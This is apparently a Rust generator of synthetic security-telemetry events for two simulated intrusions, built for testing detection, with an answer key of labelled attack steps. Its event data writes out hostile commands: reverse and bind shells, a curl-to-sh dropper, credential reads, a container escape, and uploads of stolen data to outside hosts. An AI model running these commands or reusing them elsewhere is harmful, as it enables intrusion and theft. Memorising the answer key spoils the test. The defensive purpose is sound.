//! A deterministic generator of the sample incident described in `shared/design/EVENTS.md`.
//!
//! Three hosts publish SysArmor-template events (`sysdig -p` output, every value a string): web-01
//! takes a web shell, opens a reverse shell, steals an SSH key and moves to app-01, which is
//! escalated to root, persisted, and used to reach db-01, whose database is dumped, archived and
//! uploaded, then cleaned up. Around the ~40 attack events sits background noise (>= 99.9 % of the
//! events) with the traps responders meet for real: benign look-alikes (`unix_chkpwd` reading
//! shadow, ansible writing cron, the nightly backup with rsync, cron-run shells), a reused PID, a
//! collector restart (`evt.num` back to 1), a 90 s collector gap, db-01's clock running 2.4 s
//! fast, ~0.1 % invalid JSON (unescaped quotes and newlines, a few truncated messages), ~0.05 %
//! duplicate publishes, and a few messages in the other shapes (worker wrapper, `sysdig -j`,
//! Falco). The same seed always gives the same bytes; [`attack_steps`] is the answer key.

use std::io::{self, Write};

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde::Serialize;

/// Generator settings.
#[derive(Debug, Clone)]
pub struct Config {
    /// Number of background events.
    pub noise: u64,
    pub seed: u64,
    pub scenario: Scenario,
}

/// Which night the generator writes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum Scenario {
    /// The first incident: web-01 → app-01 → db-01 (`sample-data/incident.ndjson.zst`).
    #[default]
    Incident,
    /// Another fleet's night: an exposed Redis turned into a miner and a container escape on a
    /// Docker host, amid a night of administration (package upgrades, Ansible, Puppet, Chef,
    /// Salt, backups, monitoring, log rotation) labelled as benign look-alikes
    /// (`sample-data/fleet-night.ndjson.zst`).
    FleetNight,
}

/// splitmix64: small, fast, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn chance(&mut self, per_million: u64) -> bool {
        self.below(1_000_000) < per_million
    }
}

/// One event before rendering.
#[derive(Debug, Clone)]
struct Ev {
    host: &'static str,
    /// True (server-side) time of the event.
    at: DateTime<Utc>,
    evt_type: &'static str,
    args: String,
    fd: String,
    pid: u32,
    name: String,
    cmdline: String,
    ppid: u32,
    pname: String,
    pcmdline: String,
    /// Attack step id, for the answer key.
    step: Option<&'static str>,
}

/// A labelled event of the answer key: an attack step, or (`benign`) administration that looks
/// like one.
#[derive(Debug, Clone, Serialize)]
pub struct AttackStep {
    pub step: &'static str,
    pub benign: bool,
    pub collector_id: &'static str,
    pub evt_num: u64,
    pub proc_name: String,
    pub fd_name: String,
}

const HOSTS: [(&str, &str); 3] = [
    ("web-01", "10.0.1.10"),
    ("app-01", "10.0.2.20"),
    ("db-01", "10.0.2.30"),
];
/// db-01's clock runs ahead of the others.
const DB_SKEW_MS: i64 = 2400;

/// A time of a July 2025 night, UTC.
fn july(day: u32, hour: u32, minute: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 7, day, hour, minute, 0)
        .single()
        .expect("valid date")
}

fn t0() -> DateTime<Utc> {
    july(10, 1, 30)
}

fn ev(
    host: &'static str,
    at: DateTime<Utc>,
    evt_type: &'static str,
    fd: &str,
    p: (u32, &str, &str),
    pp: (u32, &str, &str),
) -> Ev {
    let args = match evt_type {
        "connect" | "accept" => format!("res=0 tuple={fd}"),
        "openat" => format!("fd=3({fd}) dirfd=-100(AT_FDCWD) name={fd} flags=1(O_RDONLY) mode=0"),
        "write" => "res=512 data=...".to_string(),
        "unlinkat" => format!("res=0 dirfd=-100(AT_FDCWD) name={fd}"),
        _ => "res=0".to_string(),
    };
    Ev {
        host,
        at,
        evt_type,
        args,
        fd: fd.to_string(),
        pid: p.0,
        name: p.1.to_string(),
        cmdline: p.2.to_string(),
        ppid: pp.0,
        pname: pp.1.to_string(),
        pcmdline: pp.2.to_string(),
        step: None,
    }
}

fn write_flags(mut e: Ev, flags: &str) -> Ev {
    e.args = format!(
        "fd=3({}) dirfd=-100(AT_FDCWD) name={} flags={flags} mode=0644",
        e.fd, e.fd
    );
    e
}

fn step(mut e: Ev, s: &'static str) -> Ev {
    e.step = Some(s);
    e
}

/// The attack, in order, with its true times.
#[rustfmt::skip]
fn attack() -> Vec<Ev> {
    let at = |m: i64, s: i64, ms: i64| {
        t0() + Duration::minutes(40 + m) + Duration::seconds(s) + Duration::milliseconds(ms)
    };
    let fpm = (1403, "php-fpm8.1", "php-fpm: pool www");
    let nginx = (1210, "nginx", "nginx: worker process");
    let shell_sh = (23011, "sh", "sh -c id");
    let rev = (
        23030,
        "bash",
        "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    );
    let rev_p = (23030, "bash", "bash -i");
    let mut v = vec![
        // web-01: upload of the web shell
        step(ev("web-01", at(0, 5, 120), "accept", "203.0.113.66:51514->10.0.1.10:443", nginx, (1200, "nginx", "nginx: master process /usr/sbin/nginx")), "initial_access"),
        step(write_flags(ev("web-01", at(0, 5, 480), "openat", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "O_WRONLY|O_CREAT|O_TRUNC"), "webshell_upload"),
        step(ev("web-01", at(0, 6, 10), "write", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "webshell_upload"),
        // discovery through the shell
        step(ev("web-01", at(1, 12, 0), "openat", "/etc/group", (23011, "id", "id"), shell_sh), "discovery"),
        step(ev("web-01", at(1, 12, 2), "openat", "/etc/passwd", (23011, "id", "id"), shell_sh), "discovery"),
        step(ev("web-01", at(1, 20, 0), "openat", "/proc/version", (23015, "uname", "uname -a"), (23014, "sh", "sh -c uname -a")), "discovery"),
        step(ev("web-01", at(1, 31, 0), "openat", "/etc/passwd", (23018, "cat", "cat /etc/passwd"), (23017, "sh", "sh -c cat /etc/passwd")), "discovery"),
        step(ev("web-01", at(1, 45, 0), "openat", "/var/www/html/config/database.php", (23021, "cat", "cat config/database.php"), (23020, "sh", "sh -c cat config/database.php")), "discovery"),
        // reverse shell
        step(ev("web-01", at(2, 41, 512), "connect", "10.0.1.10:40522->203.0.113.66:4444", rev, fpm), "reverse_shell"),
        step(ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm), "reverse_shell"),
        // key theft
        step(ev("web-01", at(4, 2, 0), "openat", "/home/deploy/.ssh/id_rsa", (23042, "cat", "cat /home/deploy/.ssh/id_rsa"), rev_p), "credential_access"),
        step(ev("web-01", at(4, 30, 0), "openat", "/home/deploy/.ssh/id_rsa", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
        step(ev("web-01", at(4, 30, 200), "connect", "10.0.1.10:53312->10.0.2.20:22", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
    ];
    let sshd_app = (31200, "sshd", "sshd: deploy [priv]");
    let deploy_bash = (31230, "bash", "-bash");
    let root_sh = (31260, "sh", "/bin/sh -p");
    let find = (31255, "find", "find . -exec /bin/sh -p ; -quit");
    v.extend([
        step(ev("app-01", at(4, 30, 230), "accept", "10.0.1.10:53312->10.0.2.20:22", (880, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
        step(ev("app-01", at(4, 31, 0), "openat", "/home/deploy/.bashrc", deploy_bash, sshd_app), "lateral_movement"),
        step(ev("app-01", at(6, 0, 0), "openat", "/etc/sudoers", (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"), deploy_bash), "privilege_escalation"),
        step(ev("app-01", at(6, 0, 300), "openat", "/home/deploy", find, (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit")), "privilege_escalation"),
        step(ev("app-01", at(6, 0, 420), "openat", "/etc/ld.so.cache", root_sh, find), "privilege_escalation"),
        step(ev("app-01", at(7, 10, 0), "openat", "/etc/shadow", (31270, "cat", "cat /etc/shadow"), root_sh), "credential_access"),
        step(write_flags(ev("app-01", at(8, 0, 0), "openat", "/etc/cron.d/sysupdate", root_sh, find), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_cron"),
        step(ev("app-01", at(8, 0, 5), "write", "/etc/cron.d/sysupdate", root_sh, find), "persistence_cron"),
        step(write_flags(ev("app-01", at(8, 20, 0), "openat", "/root/.ssh/authorized_keys", root_sh, find), "O_WRONLY|O_APPEND|O_CREAT"), "persistence_ssh_key"),
        step(ev("app-01", at(8, 20, 3), "write", "/root/.ssh/authorized_keys", root_sh, find), "persistence_ssh_key"),
        step(write_flags(ev("app-01", at(8, 45, 0), "openat", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_systemd"),
        step(ev("app-01", at(8, 45, 4), "write", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "persistence_systemd"),
        step(ev("app-01", at(10, 0, 0), "connect", "10.0.2.20:41822->10.0.2.30:22", (31310, "ssh", "ssh root@10.0.2.30"), root_sh), "lateral_movement"),
    ]);
    let db_bash = (44120, "bash", "-bash");
    let dump = (
        44150,
        "mysqldump",
        "mysqldump --all-databases --single-transaction",
    );
    let tar = (44160, "tar", "tar czf /tmp/.x/db.tgz /tmp/.x/db.sql");
    let curl = (
        44170,
        "curl",
        "curl -k -T /tmp/.x/db.tgz https://198.51.100.23/upload",
    );
    v.extend([
        step(ev("db-01", at(10, 0, 30), "accept", "10.0.2.20:41822->10.0.2.30:22", (910, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
        step(ev("db-01", at(11, 0, 0), "connect", "/run/mysqld/mysqld.sock", dump, db_bash), "collection"),
        step(write_flags(ev("db-01", at(11, 0, 100), "openat", "/tmp/.x/db.sql", dump, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "collection"),
        step(ev("db-01", at(11, 40, 0), "write", "/tmp/.x/db.sql", dump, db_bash), "collection"),
        step(ev("db-01", at(12, 10, 0), "openat", "/tmp/.x/db.sql", tar, db_bash), "staging"),
        step(write_flags(ev("db-01", at(12, 10, 5), "openat", "/tmp/.x/db.tgz", tar, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "staging"),
        step(ev("db-01", at(13, 0, 0), "openat", "/tmp/.x/db.tgz", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(13, 0, 80), "connect", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(13, 20, 0), "write", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(14, 0, 0), "unlinkat", "/tmp/.x/db.sql", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
        step(ev("db-01", at(14, 0, 1), "unlinkat", "/tmp/.x/db.tgz", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
    ]);
    v
}

/// One background event on a host at a time; `role` picks the host's workload.
fn noise_event(rng: &mut Rng, role: &str, host: &'static str, ip: &str, at: DateTime<Utc>) -> Ev {
    let init = (1, "systemd", "/sbin/init");
    let cron = (640, "cron", "/usr/sbin/cron -f");
    // Benign look-alikes of attack steps, rare.
    if rng.chance(300) {
        return ev(
            host,
            at,
            "openat",
            "/etc/shadow",
            (
                5000 + rng.below(30000) as u32,
                "unix_chkpwd",
                "/sbin/unix_chkpwd deploy nullok",
            ),
            (880, "sshd", "sshd: deploy [priv]"),
        );
    }
    let r = rng.below(100);
    match (role, r) {
        ("app-01", 1) if rng.below(20) == 0 => write_flags(ev(host, at, "openat", "/etc/cron.d/ansible_logrotate", (7000 + rng.below(500) as u32, "python3", "/usr/bin/python3 /root/.ansible/tmp/AnsiballZ_cron.py"), (6990, "sh", "/bin/sh -c sudo -H -S -n -u root /bin/sh -c 'echo BECOME-SUCCESS; /usr/bin/python3'")), "O_WRONLY|O_CREAT|O_TRUNC"),
        (_, 2..=4) => ev(host, at, "openat", "/usr/local/bin/healthcheck.sh", (9000 + rng.below(20000) as u32, "sh", "/bin/sh -c /usr/local/bin/healthcheck.sh"), cron),
        ("web-01", 5..=59) => {
            let client = format!("198.18.{}.{}:{}", rng.below(200), 1 + rng.below(250), 30000 + rng.below(30000));
            if rng.below(3) == 0 {
                ev(host, at, "accept", &format!("{client}->{ip}:443"), (1210, "nginx", "nginx: worker process"), (1200, "nginx", "nginx: master process /usr/sbin/nginx"))
            } else if rng.below(2) == 0 {
                let page = rng.pick(&["index.php", "login.php", "cart.php", "search.php", "api/v1/items.php"]);
                ev(host, at, "openat", &format!("/var/www/html/{page}"), (1403 + rng.below(8) as u32, "php-fpm8.1", "php-fpm: pool www"), init)
            } else {
                let port = 30000 + rng.below(30000);
                ev(host, at, "connect", &format!("{ip}:{port}->10.0.2.30:3306"), (1403 + rng.below(8) as u32, "php-fpm8.1", "php-fpm: pool www"), init)
            }
        }
        ("app-01", 5..=59) => {
            if rng.below(2) == 0 {
                let port = 30000 + rng.below(30000);
                ev(host, at, "connect", &format!("{ip}:{port}->10.0.2.30:3306"), (2100, "java", "java -jar /opt/app/orders.jar"), init)
            } else {
                let f = rng.pick(&["/opt/app/config/application.yml", "/opt/app/logs/app.log", "/tmp/hsperfdata_app/2100"]);
                ev(host, at, "openat", f, (2100, "java", "java -jar /opt/app/orders.jar"), init)
            }
        }
        ("db-01", 5..=59) => {
            if rng.below(3) == 0 {
                let src = rng.pick(&["10.0.1.10", "10.0.2.20"]);
                ev(host, at, "accept", &format!("{src}:{}->{ip}:3306", 30000 + rng.below(30000)), (1500, "mysqld", "/usr/sbin/mysqld"), init)
            } else {
                let f = format!("/var/lib/mysql/shop/{}.ibd", rng.pick(&["orders", "customers", "items", "sessions"]));
                ev(host, at, "openat", &f, (1500, "mysqld", "/usr/sbin/mysqld"), init)
            }
        }
        ("cache", 5..=59) => {
            if rng.below(3) == 0 {
                let src = rng.pick(&["10.0.6.10", "10.0.6.20"]);
                ev(host, at, "accept", &format!("{src}:{}->{ip}:6379", 30000 + rng.below(30000)), (1100, "redis-server", "/usr/bin/redis-server 0.0.0.0:6379"), init)
            } else {
                ev(host, at, "write", "/var/lib/redis/appendonly.aof", (1100, "redis-server", "/usr/bin/redis-server 0.0.0.0:6379"), init)
            }
        }
        ("k8s", 5..=59) => {
            let kubelet = (1300, "kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml");
            match rng.below(4) {
                0 => ev(host, at, "connect", &format!("{ip}:{}->10.0.5.1:6443", 30000 + rng.below(30000)), kubelet, init),
                1 => ev(host, at, "openat", "/var/lib/kubelet/pki/kubelet-client-current.pem", kubelet, init),
                2 => ev(host, at, "connect", "/run/containerd/containerd.sock", kubelet, init),
                _ => ev(host, at, "openat", &format!("/sys/fs/cgroup/kubepods.slice/cpu.stat{}", rng.below(3)), (1350, "containerd", "/usr/bin/containerd"), init),
            }
        }
        (_, 60..=69) => {
            let f = format!("/var/log/journal/5f2e/system@{}.journal", rng.below(4));
            ev(host, at, "write", &f, (310, "systemd-journal", "/lib/systemd/systemd-journald"), init)
        }
        (_, 70..=74) => ev(host, at, "accept", &format!("10.0.0.5:{}->{ip}:22", 40000 + rng.below(20000)), (880, "sshd", "/usr/sbin/sshd -D"), init),
        (_, 75..=84) => {
            let f = rng.pick(&["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ld.so.cache"]);
            ev(host, at, "openat", f, (400 + rng.below(200) as u32, "systemd-resolve", "/lib/systemd/systemd-resolved"), init)
        }
        (_, 85..=89) => ev(host, at, "connect", &format!("{ip}:{}->10.0.0.2:53", 30000 + rng.below(30000)), (420, "systemd-resolve", "/lib/systemd/systemd-resolved"), init),
        _ => {
            let f = rng.pick(&["/proc/stat", "/proc/meminfo", "/proc/loadavg", "/sys/fs/cgroup/cpu.stat"]);
            ev(host, at, "openat", f, (720, "node_exporter", "/usr/local/bin/node_exporter"), init)
        }
    }
}

/// The nightly backup on db-01 at 02:00: a benign mysqldump, tar and rsync to the backup host.
#[rustfmt::skip]
fn nightly_backup() -> Vec<Ev> {
    let at = |s: i64| t0() + Duration::minutes(30) + Duration::seconds(s);
    let script = (52000, "backup.sh", "/bin/bash /usr/local/sbin/backup.sh");
    let dump = (
        52010,
        "mysqldump",
        "mysqldump --all-databases --single-transaction",
    );
    let tar = (
        52020,
        "tar",
        "tar czf /backup/nightly/db-2025-07-10.tgz /backup/nightly/db-2025-07-10.sql",
    );
    let rsync = (
        52030,
        "rsync",
        "rsync -a /backup/nightly/ backup@10.0.3.5::nightly",
    );
    vec![
        ev("db-01", at(0), "openat", "/usr/local/sbin/backup.sh", script, (640, "cron", "/usr/sbin/cron -f")),
        ev("db-01", at(1), "connect", "/run/mysqld/mysqld.sock", dump, script),
        write_flags(ev("db-01", at(2), "openat", "/backup/nightly/db-2025-07-10.sql", dump, script), "O_WRONLY|O_CREAT|O_TRUNC"),
        ev("db-01", at(40), "write", "/backup/nightly/db-2025-07-10.sql", dump, script),
        ev("db-01", at(70), "openat", "/backup/nightly/db-2025-07-10.sql", tar, script),
        write_flags(ev("db-01", at(71), "openat", "/backup/nightly/db-2025-07-10.tgz", tar, script), "O_WRONLY|O_CREAT|O_TRUNC"),
        ev("db-01", at(120), "connect", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
        ev("db-01", at(121), "write", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
    ]
}

/// The fleet of the second night: (collector, address, workload of the background noise).
const FLEET: [(&str, &str, &str); 4] = [
    ("cache-01", "10.0.5.10", "cache"),
    ("k8s-node-01", "10.0.5.20", "k8s"),
    ("web-02", "10.0.6.10", "web-01"),
    ("app-02", "10.0.6.20", "app-01"),
];
/// k8s-node-01's clock runs behind the others.
const K8S_SKEW_MS: i64 = -1200;

fn t1() -> DateTime<Utc> {
    july(11, 0, 0)
}

/// A short-lived command, visible through the loader cache every dynamic program opens first.
fn started(
    host: &'static str,
    at: DateTime<Utc>,
    p: (u32, &str, &str),
    pp: (u32, &str, &str),
) -> Ev {
    ev(host, at, "openat", "/etc/ld.so.cache", p, pp)
}

/// The second incident: an exposed Redis on cache-01 turned into a miner, then the Docker API of
/// k8s-node-01 used to escape onto that host, steal cluster credentials and leave a way back in.
#[rustfmt::skip]
fn second_incident() -> Vec<Ev> {
    let at = |m: i64, s: i64| t1() + Duration::minutes(100 + m) + Duration::seconds(s);
    let (c, k) = ("cache-01", "k8s-node-01");
    let redis = (1100, "redis-server", "/usr/bin/redis-server 0.0.0.0:6379");
    let cron = (640, "cron", "/usr/sbin/cron -f");
    let dropper = (20100, "sh", "/bin/sh -c (curl -fsSL http://45.155.205.12/k.sh||wget -q -O- http://45.155.205.12/k.sh)|sh");
    let script = (20102, "sh", "sh");
    let miner = (20130, "kdevtmpfsi", "/tmp/kdevtmpfsi");
    let pyrev = (20180, "python3", "python3 -c import socket,os,pty;s=socket.socket();s.connect(('45.155.205.12',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')");
    let mut v = vec![
        step(ev(c, at(0, 0), "accept", "45.155.205.12:41234->10.0.5.10:6379", redis, (1, "systemd", "/sbin/init")), "initial_access"),
        step(write_flags(ev(c, at(0, 20), "openat", "/var/spool/cron/crontabs/root", redis, (1, "systemd", "/sbin/init")), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_cron"),
        step(ev(c, at(0, 21), "write", "/var/spool/cron/crontabs/root", redis, (1, "systemd", "/sbin/init")), "persistence_cron"),
        step(started(c, at(1, 0), dropper, cron), "download_and_run"),
        step(ev(c, at(1, 0), "connect", "10.0.5.10:51022->45.155.205.12:80", (20101, "curl", "curl -fsSL http://45.155.205.12/k.sh"), dropper), "download_and_run"),
        step(ev(c, at(1, 2), "openat", "/sys/fs/selinux/enforce", (20110, "setenforce", "setenforce 0"), script), "defense_evasion"),
        step(ev(c, at(1, 2), "connect", "/run/systemd/private", (20111, "systemctl", "systemctl stop apparmor"), script), "defense_evasion"),
        step(started(c, at(1, 3), (20112, "ufw", "ufw disable"), script), "defense_evasion"),
        step(ev(c, at(1, 5), "connect", "10.0.5.10:51030->45.155.205.12:80", (20120, "wget", "wget -q -O /tmp/kdevtmpfsi http://45.155.205.12/kdevtmpfsi"), script), "ingress_tool_transfer"),
        step(write_flags(ev(c, at(1, 6), "openat", "/tmp/kdevtmpfsi", (20120, "wget", "wget -q -O /tmp/kdevtmpfsi http://45.155.205.12/kdevtmpfsi"), script), "O_WRONLY|O_CREAT|O_TRUNC"), "ingress_tool_transfer"),
        step(started(c, at(1, 8), miner, script), "miner"),
        step(ev(c, at(1, 9), "connect", "10.0.5.10:40010->45.9.148.125:3333", miner, script), "miner"),
        step(ev(c, at(1, 10), "unlinkat", "/tmp/kdevtmpfsi", (20131, "rm", "rm -f /tmp/kdevtmpfsi"), script), "defense_evasion"),
        step(ev(c, at(11, 0), "connect", "10.0.5.10:40022->45.9.148.125:3333", miner, script), "miner_deleted_binary"),
        step(ev(c, at(1, 12), "connect", "10.0.5.10:51040->45.155.205.12:80", (20140, "wget", "wget -q -O /usr/local/lib/libsystem.so http://45.155.205.12/libsystem.so"), script), "ingress_tool_transfer"),
        step(write_flags(ev(c, at(1, 14), "openat", "/etc/ld.so.preload", script, dropper), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_preload"),
        step(ev(c, at(1, 14), "write", "/etc/ld.so.preload", script, dropper), "persistence_preload"),
        step(ev(c, at(2, 0), "openat", "/root/.aws/credentials", (20150, "cat", "cat /root/.aws/credentials"), script), "credential_access"),
        step(ev(c, at(2, 3), "connect", "10.0.5.10:51100->169.254.169.254:80", (20151, "curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"), script), "credential_access"),
        step(ev(c, at(3, 0), "connect", "10.0.5.10:51500->45.155.205.12:9001", pyrev, script), "reverse_shell"),
        step(ev(c, at(3, 1), "write", "10.0.5.10:51500->45.155.205.12:9001", (20181, "sh", "/bin/sh"), pyrev), "reverse_shell"),
    ];
    let nmap = (20160, "nmap", "nmap -sT -Pn -p 2375,2376,10250 10.0.5.0/24");
    for i in 0..30u32 {
        let port = [2375, 2376, 10250][(i % 3) as usize];
        let fd = format!("10.0.5.10:{}->10.0.5.{}:{port}", 52100 + i, 1 + i / 3);
        v.push(step(ev(c, at(4, 0) + Duration::milliseconds(i64::from(i) * 300), "connect", &fd, nmap, (20181, "sh", "/bin/sh")), "discovery_scan"));
    }
    let sh = (20181, "sh", "/bin/sh");
    let create = (20170, "curl", "curl -s -X POST -H Content-Type:application/json -d @/tmp/.c.json http://10.0.5.20:2375/containers/create");
    let dockerd = (1400, "dockerd", "/usr/bin/dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock");
    let shim = (1500, "containerd-shim", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 9f2c1e");
    let entry = (30010, "sh", "/bin/sh -c nsenter --target 1 --mount --uts --ipc --net --pid -- bash");
    let nsenter = (30011, "nsenter", "nsenter --target 1 --mount --uts --ipc --net --pid -- bash");
    let hbash = (30012, "bash", "bash");
    let socat = (30080, "socat", "socat TCP-LISTEN:4445,reuseaddr,fork EXEC:/bin/bash");
    v.extend([
        step(ev(c, at(6, 0), "connect", "10.0.5.10:52000->10.0.5.20:2375", create, sh), "lateral_docker_api"),
        step(ev(k, at(6, 0), "accept", "10.0.5.10:52000->10.0.5.20:2375", dockerd, (1, "systemd", "/sbin/init")), "lateral_docker_api"),
        step(ev(c, at(6, 5), "connect", "10.0.5.10:52010->10.0.5.20:2375", (20171, "curl", "curl -s -X POST http://10.0.5.20:2375/containers/9f2c1e/start"), sh), "lateral_docker_api"),
        step(started(k, at(6, 7), entry, shim), "container_escape"),
        step(ev(k, at(6, 7), "openat", "/proc/1/ns/mnt", nsenter, entry), "container_escape"),
        step(write_flags(ev(k, at(6, 30), "openat", "/sys/fs/cgroup/rdma/release_agent", (30013, "sh", "sh -c echo /tmp/.x/r.sh > /sys/fs/cgroup/rdma/release_agent"), hbash), "O_WRONLY|O_CREAT|O_TRUNC"), "container_escape"),
        step(ev(k, at(7, 0), "openat", "/var/run/secrets/kubernetes.io/serviceaccount/token", (30020, "cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"), hbash), "credential_access"),
        step(ev(k, at(7, 10), "openat", "/var/lib/kubelet/pki/kubelet-client-current.pem", (30021, "cat", "cat /var/lib/kubelet/pki/kubelet-client-current.pem"), hbash), "credential_access"),
        step(write_flags(ev(k, at(8, 0), "openat", "/root/.ssh/authorized_keys", (30030, "sh", "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7x >> /root/.ssh/authorized_keys"), hbash), "O_WRONLY|O_APPEND|O_CREAT"), "persistence_ssh_key"),
        step(write_flags(ev(k, at(8, 10), "openat", "/etc/udev/rules.d/75-sys.rules", (30031, "cp", "cp /tmp/.x/75-sys.rules /etc/udev/rules.d/75-sys.rules"), hbash), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_udev"),
        step(write_flags(ev(k, at(8, 20), "openat", "/etc/init.d/sysmon", (30032, "cp", "cp /tmp/.x/sysmon /etc/init.d/sysmon"), hbash), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_init"),
        step(write_flags(ev(k, at(8, 30), "openat", "/etc/init.d/sysmon", (30033, "touch", "touch -r /etc/init.d/cron /etc/init.d/sysmon"), hbash), "O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK"), "timestomp"),
        step(started(k, at(9, 0), (30035, "chmod", "chmod u+s /tmp/.x/.b"), hbash), "privilege_escalation"),
        step(started(k, at(9, 5), (30036, "setcap", "setcap cap_setuid+ep /usr/bin/python3.11"), hbash), "privilege_escalation"),
        step(write_flags(ev(k, at(9, 20), "openat", "/etc/passwd", (30037, "useradd", "useradd -o -u 0 -g 0 -M -s /bin/bash sysadm"), hbash), "O_WRONLY|O_CREAT"), "account"),
        step(ev(k, at(9, 20), "write", "/etc/shadow", (30037, "useradd", "useradd -o -u 0 -g 0 -M -s /bin/bash sysadm"), hbash), "account"),
        step(ev(k, at(10, 0), "openat", "/usr/bin", (30040, "find", "find / -perm -4000 -type f"), hbash), "discovery_suid"),
        step(ev(k, at(11, 0), "openat", "/etc/kubernetes/admin.conf", (30050, "tar", "tar czf /dev/shm/.k8s.tgz /etc/kubernetes /var/lib/kubelet/pki"), hbash), "collection"),
        step(write_flags(ev(k, at(11, 1), "openat", "/dev/shm/.k8s.tgz", (30050, "tar", "tar czf /dev/shm/.k8s.tgz /etc/kubernetes /var/lib/kubelet/pki"), hbash), "O_WRONLY|O_CREAT|O_TRUNC"), "collection"),
        step(ev(k, at(11, 30), "connect", "10.0.5.20:50500->45.155.205.12:443", (30051, "curl", "curl -s -F f=@/dev/shm/.k8s.tgz https://45.155.205.12/u"), hbash), "exfiltration"),
        step(ev(k, at(12, 0), "connect", "10.0.5.20:50600->45.155.205.12:8000", (30060, "chisel", "/tmp/.x/chisel client 45.155.205.12:8000 R:socks"), hbash), "tunnel"),
        step(ev(k, at(12, 30), "accept", "45.155.205.12:55001->10.0.5.20:4445", socat, hbash), "bind_shell"),
        step(ev(k, at(12, 31), "openat", "/etc/passwd", (30081, "bash", "/bin/bash"), socat), "bind_shell"),
        step(ev(k, at(13, 0), "unlinkat", "/dev/shm/.k8s.tgz", (30070, "shred", "shred -u /dev/shm/.k8s.tgz"), hbash), "cleanup"),
        step(ev(k, at(13, 5), "unlinkat", "/root/.bash_history", (30071, "rm", "rm -f /root/.bash_history"), hbash), "history_clearing"),
        step(started(k, at(13, 6), (30072, "ln", "ln -sf /dev/null /root/.bash_history"), hbash), "history_clearing"),
        step(write_flags(ev(k, at(13, 10), "openat", "/var/log/auth.log", (30073, "truncate", "truncate -s 0 /var/log/auth.log"), hbash), "O_WRONLY|O_CREAT|O_NONBLOCK"), "log_clearing"),
    ]);
    v
}

/// A night of administration on the same fleet, every event labelled `admin:…`: package
/// upgrades with maintainer scripts, a deploy with pip and npm, Ansible, Puppet, Chef and Salt
/// runs, backups, monitoring, health checks, log rotation and retention, a security audit, and
/// an on-call admin. None of it may raise a high or critical hit.
#[rustfmt::skip]
fn admin_night() -> Vec<Ev> {
    let at = |m: i64, s: i64| t1() + Duration::minutes(m) + Duration::seconds(s);
    let init = (1, "systemd", "/sbin/init");
    let cron = (640, "cron", "/usr/sbin/cron -f");
    let mut v = Vec::new();
    let mut a = |e: Ev, what: &'static str| v.push(step(e, what));
    // Unattended upgrades: falco is upgraded (its maintainer scripts stop it, add a user, enable it).
    for (i, host) in ["web-02", "app-02", "cache-01", "k8s-node-01"].into_iter().enumerate() {
        let m = 30 + 7 * i as i64;
        let base = 41000 + 100 * i as u32;
        let uu = (base, "unattended-upgr", "/usr/bin/python3 /usr/bin/unattended-upgrade");
        let dpkg = (base + 2, "dpkg", "/usr/bin/dpkg --status-fd 10 --configure --pending");
        let post = (base + 3, "falco.postinst", "/bin/sh /var/lib/dpkg/info/falco.postinst configure 0.41.3");
        let invoke = (base + 4, "deb-systemd-inv", "/usr/bin/perl /usr/bin/deb-systemd-invoke stop falco.service");
        a(ev(host, at(m, 0), "connect", &format!("10.0.{}.{}:40100->91.189.91.81:80", 5 + i / 2, 10 + 10 * (i % 2)), (base + 1, "http", "/usr/lib/apt/methods/http"), uu), "admin:package_upgrade");
